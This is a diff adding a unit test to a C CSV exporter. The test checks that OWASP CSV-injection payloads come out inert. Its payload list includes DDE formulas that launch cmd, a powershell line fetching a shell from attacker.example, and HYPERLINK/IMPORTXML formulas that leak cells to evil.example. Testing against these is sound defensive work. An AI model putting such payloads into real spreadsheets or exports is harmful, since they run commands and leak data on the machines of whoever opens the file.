@@ -70,6 +70,120 @@ test_export_csv_field(void **state)
 	assert_string_equal(field("a\x80z"), "a\xef\xbf\xbdz");
 }
 
+/*
+ * The OWASP CSV-injection payloads (owasp.org/www-community/attacks/
+ * CSV_Injection, and the usual lists built on it), and the same cut
+ * where a spreadsheet may split a cell.
+ */
+static const char *const owasp[] = {
+	"=cmd|' /C calc'!A0",
+	"=cmd|' /C notepad'!'A1'",
+	"=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
+	"=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
+	"@SUM(1+1)*cmd|' /C calc'!A0",
+	"@SUM(1+9)*cmd|' /C calc'!A0",
+	"=10+20+cmd|' /C calc'!A0",
+	"+1+1",
+	"-1+1",
+	"-2+3+cmd|' /C calc'!A0",
+	"+cmd|' /C calc'!A0",
+	"DDE (\"cmd\";\"/C calc\";\"!A0\")A0",
+	"=DDE(\"cmd\";\"/C calc\";\"!A0\")",
+	"=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
+	"=IMPORTXML(CONCAT(\"http://evil.example/?v=\", CONCATENATE(A2:E2)),"
+	    " \"//a\")",
+	"=IMAGE(\"http://evil.example/x.png\")",
+	"x;=HYPERLINK(\"http://evil.example\")",
+	"x,=HYPERLINK(\"http://evil.example\")",
+	"x\t=1+1",
+	"x; =1+1",
+	"x;\"=1+1\"",
+	"x,\"@SUM(1)\"",
+	"a\n=1+1",
+	"a\r\n=1+1",
+	"a\r=1+1",
+	"a\n\n-1+1",
+	"a\n \"+1",
+	"\t=1+1",
+	"\r=1+1",
+	"\r\n=1+1",
+	" =1+1",
+	"\"=1+1\"",
+	"'=1+1",
+	"=1+1;=2+2,=3+3\t=4+4\n=5+5\r=6+6",
+};
+
+/*
+ * s is inert: no cell a spreadsheet may cut from it (at a comma, a
+ * semicolon, a TAB or a line end, then past quotes and spaces) starts
+ * with a formula's first byte.
+ */
+static void
+assert_inert(const char *s)
+{
+	const char *p = s;
+
+	for (;;) {
+		while (*p == '"' || *p == ' ')
+			p++;
+		if (*p != '\0' && strchr("=+-@", *p) != NULL)
+			fail_msg("live cell at %zu of [%s]", (size_t)(p - s), s);
+		p += strcspn(p, ",;\t\r\n");
+		if (*p == '\0')
+			return;
+		p++;
+	}
+}
+
+/* The RFC 4180 reading of one field f: s with the guard's ' added. */
+static void
+assert_reads_back(const char *f, const char *s)
+{
+	char back[512];
+	size_t o = 0;
+	const char *p = f;
+
+	if (*p == '"') {
+		for (p++; *p != '\0'; p++) {
+			if (*p == '"' && p[1] == '"')
+				p++;
+			else if (*p == '"')
+				break;
+			back[o++] = *p;
+		}
+		assert_int_equal(*p, '"');
+		assert_int_equal(p[1], '\0');
+	} else {
+		assert_int_equal(strcspn(f, ",;\"\r\n"), strlen(f));
+		o = strlcpy(back, f, sizeof(back));
+	}
+	back[o] = '\0';
+	/* Without its ' marks, the text is what was given. */
+	for (p = back, o = 0; *p != '\0'; p++)
+		if (*p != '\'' || p[1] == '\0' ||
+		    strchr("=+-@\t\r", p[1]) == NULL || s[o] == '\'')
+			assert_int_equal(*p, s[o++]);
+	assert_int_equal(s[o], '\0');
+}
+
+static void
+test_export_csv_owasp(void **state)
+{
+	size_t i;
+
+	for (i = 0; i < sizeof(owasp) / sizeof(owasp[0]); i++) {
+		assert_inert(field(owasp[i]));
+		assert_reads_back(field(owasp[i]), owasp[i]);
+	}
+	/* Where the marks go. */
+	assert_string_equal(field("x;=1"), "\"x;'=1\"");
+	assert_string_equal(field("a\r\n=1"), "\"a\r\n'=1\"");
+	assert_string_equal(field("x; \"-1"), "\"x; \"\"'-1\"");
+	assert_string_equal(field("x\t@a"), "x\t'@a");
+	assert_string_equal(field("a;b"), "\"a;b\"");
+	assert_string_equal(field("a - b"), "a - b");
+}
+
 static void
 test_export_rows(void **state)
 {
@@ -195,6 +309,7 @@ main(void)
 {
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test(test_export_csv_field),
+		cmocka_unit_test(test_export_csv_owasp),
 		cmocka_unit_test(test_export_rows),
 		cmocka_unit_test(test_ctl_rows),
 	};
